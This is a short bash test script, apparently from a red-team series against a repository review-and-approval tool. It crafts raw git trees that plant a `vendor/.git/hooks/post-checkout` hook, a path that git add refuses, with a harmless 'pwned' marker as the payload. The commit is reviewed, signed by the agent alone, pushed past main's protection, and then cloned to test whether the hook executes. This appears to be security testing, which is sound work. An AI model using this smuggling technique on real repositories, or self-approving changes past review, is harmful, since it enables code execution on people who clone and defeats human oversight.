#!/usr/bin/env bash
RT14=${RT14:-$(cd "$(dirname "$0")" && pwd)}
# Round 13's 03b, finished: `vendor/.git/hooks/post-checkout` written as
# raw trees (git add refuses it), reviewed with `start --commit`, signed
# by the agent alone, pushed; then cloned.
source "$RT14/common.sh"
setup_team >/dev/null
B=$(g rev-parse HEAD)
hook=$(printf '#!/bin/sh\necho pwned > /tmp/r14-pwned\n' | g hash-object -w --stdin)
t_hooks=$(echo "100644 post-checkout $hook" | rawtree "$R")
t_git=$(echo "40000 hooks $t_hooks" | rawtree "$R")
t_vendor=$(echo "40000 .git $t_git" | rawtree "$R")
root=$( { lsentries "$R" "$B^{tree}"; echo "40000 vendor $t_vendor"; } | sort -k2 | rawtree "$R")
X=$(g commit-tree "$root" -p "$B" -m "vendor/.git/hooks")
echo "    tree: $(g ls-tree -r --name-only $X | tr '\n' ' ')"
st=$(pj start --commit "$X" 2>&1); echo "    start --commit: $(jq -c '{risk_level,risk_reasons}' <<<"$st" 2>/dev/null || echo "$st" | head -3)"
if L=$(approve_started "$st" 2>"$W/fin.err"); then sign agent "$L"; g update-ref refs/heads/main "$X"; out=$(push_past main); verdict "03 vendor/.git/hooks/post-checkout (agent alone)" main "$X" "$out"
else echo "03: finalize refused: $(head -c 600 "$W/fin.err")"; fi
out=$(git clone -q "$S" "$W/co3" 2>&1); echo "    clone: $(echo "$out" | head -3 | tr '\n' ' ')"
ls -la "$W/co3/vendor/.git/hooks" 2>&1 | head -3; ls /tmp/r14-pwned 2>&1
# What a checkout does with such a tree (a plain bare repository, no hook)
git init -q --bare "$W/plain.git"; g push -q "$W/plain.git" "$X:refs/heads/main" 2>&1 | head -2
out=$(git clone -q "$W/plain.git" "$W/co3p" 2>&1); echo "    clone of the tree without the hook: $(echo "$out" | head -3 | tr '\n' ' ')"
ls -a "$W/co3p/vendor" 2>&1 | tr '\n' ' '; echo
